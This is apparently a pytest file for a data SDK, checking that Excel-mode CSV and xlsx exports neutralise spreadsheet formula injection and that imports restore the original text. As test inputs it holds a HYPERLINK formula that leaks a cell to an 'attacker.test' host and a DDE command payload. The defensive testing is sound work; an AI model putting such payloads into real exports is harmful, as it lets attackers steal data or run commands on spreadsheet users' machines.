"""An export for spreadsheets carries no live formula (CSV injection), and every text still comes back.

``--excel`` writes a text cell that a spreadsheet would evaluate (``=HYPERLINK(...)``, ``- item``,
``@SUM(...)``) with an apostrophe in front; the import removes one apostrophe from a text cell made of
apostrophes and such a character, from CSV and ``.xlsx`` alike. Plain CSV (a file for programs) keeps
``=1`` as it is. The files LibreOffice Calc re-saved from an ``--excel`` export (tests/data/libreoffice)
import back as the rows exported.
"""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from nexus_sdk.io import read_rows
from nexus_sdk.io._formats import RowWriter
from nexus_sdk.io._formulas import FORMULA_STARTS, escape_formula, unescape_formula

DATA = Path(__file__).parents[1] / "data" / "libreoffice"
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def export(table: str, rows: list[dict[str, Any]], *, excel: bool, delimiter: str = ",") -> str:
    out = io.StringIO(newline="")
    writer = RowWriter(out, "csv", table, excel=excel, delimiter=delimiter)
    for row in rows:
        writer.write(row)
    return out.getvalue()


def cells(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    """The records of an export as the csv module reads them (no import rules applied)."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def imported(tmp_path: Path, text: str, table: str = "content_adaptations") -> list[Any]:
    path = tmp_path / "export.csv"
    path.write_bytes(text.encode("utf-8"))
    return [row for _, row in read_rows(path, table)]


def test_the_trigger_characters_are_the_ascii_and_full_width_ones() -> None:
    assert sorted(FORMULA_STARTS) == sorted(TRIGGERS)


@pytest.mark.parametrize("first", TRIGGERS)
def test_a_text_starting_with_a_formula_character_gets_an_apostrophe_in_excel_exports_only(
    first: str,
) -> None:
    text = first + 'HYPERLINK("https://attacker.test/?d="&A1,"open")'
    row = {"original_idea": text, "tone": first + "casual", "target_audience": "x" + first}

    excel = cells(export("content_adaptations", [row], excel=True))[0]
    plain = cells(export("content_adaptations", [row], excel=False))[0]

    assert (excel["original_idea"], excel["tone"]) == ("'" + text, "'" + first + "casual")
    assert excel["target_audience"] == "x" + first  # only the first character counts
    assert (plain["original_idea"], plain["tone"], plain["target_audience"]) == (
        text,
        first + "casual",
        "x" + first,
    )


def test_plain_csv_is_written_as_before_for_formula_like_text() -> None:
    row = {"id": "3f0b4a52-1a7e-4a53-9a57-4b1c3a1d2e10", "original_idea": "=1+2", "tone": "- item"}

    text = export("content_adaptations", [row], excel=False)

    assert text.splitlines()[1] == "3f0b4a52-1a7e-4a53-9a57-4b1c3a1d2e10,,=1+2,,,- item,,,,"


def test_json_numbers_booleans_ids_and_timestamps_are_never_escaped() -> None:
    post = {
        "platform": "-x",  # a text column: escaped
        "status": "failed",
        "content": "@here",
        "metadata": {"formula": "=1+2", "n": -1},
        "metrics": {"views": 3},
        "scheduled_for": "2026-01-15T09:30:00-05:00",
    }
    scheduled = {"retry_count": -1, "content": "+1", "last_error": "=ERR()", "claimed_by": None}

    [posts] = cells(export("published_posts", [post], excel=True))
    [queued] = cells(export("scheduled_posts", [scheduled], excel=True))
    [profile] = cells(export("voice_profiles", [{"name": "n", "sample_posts": ["=1", "-2"]}], excel=True))

    assert (posts["platform"], posts["content"]) == ("'-x", "'@here")
    assert posts["metadata"] == '{"formula":"=1+2","n":-1}'
    assert posts["scheduled_for"] == "2026-01-15T09:30:00-05:00"
    assert (queued["retry_count"], queued["content"], queued["last_error"]) == ("-1", "'+1", "'=ERR()")
    assert profile["sample_posts"] == '["=1","-2"]'


def test_decrypted_tokens_are_escaped_too_and_read_back(tmp_path: Path) -> None:
    row = {
        "platform": "x",
        "platform_user_id": "@me",
        "access_token": "=cmd|' /C calc'!A0",
        "refresh_token": "r",
    }

    text = export("platform_connections", [row], excel=True, delimiter=";")

    record = cells(text, ";")[0]
    assert (record["access_token"], record["platform_user_id"]) == ("'=cmd|' /C calc'!A0", "'@me")
    assert imported(tmp_path, text, "platform_connections") == [row]


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ("'=SUM(A1:A3)", "=SUM(A1:A3)"),
        ("'- item", "- item"),
        ("'\uff20name", "\uff20name"),
        ("''=1", "'=1"),
        ("'''+1", "''+1"),
        ("'tis", "'tis"),  # not before a formula character: as it is
        ("'123", "'123"),
        ("''", "''"),
        ("'", "'"),
        ("=1", "=1"),  # a spreadsheet saved the text without its apostrophe (or a program wrote it)
    ],
)
def test_a_csv_cell_from_anywhere_loses_one_apostrophe_before_a_formula_character(
    tmp_path: Path, cell: str, text: str
) -> None:
    path = tmp_path / "ideas.csv"
    path.write_text(f'original_idea,tone\r\n"{cell}",x\r\n', encoding="utf-8")

    assert [row for _, row in read_rows(path, "content_adaptations")] == [
        {"original_idea": text, "tone": "x"}
    ]


def test_an_xlsx_text_cell_loses_one_apostrophe_before_a_formula_character(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["original_idea", "tone", "target_audience"])
    sheet.append(['\'=HYPERLINK("x")', "''@casual", "'plain"])
    path = tmp_path / "ideas.xlsx"
    book.save(path)

    [(_, row)] = list(read_rows(path, "content_adaptations"))

    assert row == {"original_idea": '=HYPERLINK("x")', "tone": "'@casual", "target_audience": "'plain"}


def test_a_json_column_is_not_unescaped(tmp_path: Path) -> None:
    path = tmp_path / "profiles.csv"
    path.write_text('name,sample_posts\r\n\'=n,"[""\'=1""]"\r\n', encoding="utf-8")

    assert [row for _, row in read_rows(path, "voice_profiles")] == [{"name": "=n", "sample_posts": ["'=1"]}]


FORMULA_LIKE = st.builds(
    lambda quotes, first, rest: "'" * quotes + first + rest,
    st.integers(0, 3),
    st.sampled_from(TRIGGERS),
    st.text(max_size=10),
)
TEXT = (
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters=["\x00"]), max_size=30) | FORMULA_LIKE
)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=300)
@given(
    st.lists(st.tuples(TEXT, TEXT | st.none()), min_size=1, max_size=4),
    st.booleans(),
    st.sampled_from(",;\t"),
)
@example([("'=1", "''=1"), ("=1", "'''-")], True, ",")
@example([("'=1", "''=1"), ("'", "''")], False, ";")
def test_an_export_imports_back_as_the_same_text(
    tmp_path: Path, texts: list[tuple[str, str | None]], excel: bool, delimiter: str
) -> None:
    rows = [
        {"id": str(uuid.UUID(int=i + 1)), "original_idea": idea, "tone": tone}
        for i, (idea, tone) in enumerate(texts)
    ]

    back = imported(tmp_path, export("content_adaptations", rows, excel=excel, delimiter=delimiter))

    assert back == [{k: v for k, v in row.items() if v is not None} for row in rows]


@given(TEXT)
@example("'=1")
@example("''=1")
def test_unescape_undoes_escape_and_an_escaped_text_starts_no_formula(text: str) -> None:
    escaped = escape_formula(text)

    assert unescape_formula(escaped) == text
    assert unescape_formula(escape_formula(text, spreadsheet=False)) == text
    assert not escaped.startswith(tuple(FORMULA_STARTS))


EXPORTED = [
    '=HYPERLINK("https://example.test/?q="&A1,"open")',
    "- item one\n- item two",
    "@SUM(1,2)",
    "+49 30 123456",
    "-42",
    "'=already quoted",
    "''=two apostrophes",
    "\uff1d1+2",
    "\t=1+2",
    "'plain apostrophe",
    "=1+2",
]


@pytest.mark.parametrize(
    "name", ["ideas-formulas-excel-export.csv", "ideas-formulas-resaved.xlsx", "ideas-formulas-resaved.csv"]
)
def test_an_excel_export_resaved_by_libreoffice_calc_imports_back_the_same_rows(name: str) -> None:
    rows = [row for _, row in read_rows(DATA / name, "content_adaptations")]

    assert [row["original_idea"] for row in rows] == EXPORTED
    assert (rows[0]["tone"], rows[1]["target_audience"]) == ("@casual", "'devs")
    assert all(row["adaptations"] == {"x": {"text": "=not a cell"}} for row in rows)


def test_libreoffice_calc_kept_every_escaped_cell_as_text() -> None:
    book = openpyxl.load_workbook(DATA / "ideas-formulas-resaved.xlsx")
    sheet = book.active
    assert sheet is not None

    column = [cell for (cell,) in sheet.iter_rows(min_row=2, min_col=3, max_col=3)]

    assert {cell.data_type for cell in column} == {"s"}  # no formula, no number
    assert [cell.value for cell in column] == [escape_formula(text) for text in EXPORTED]
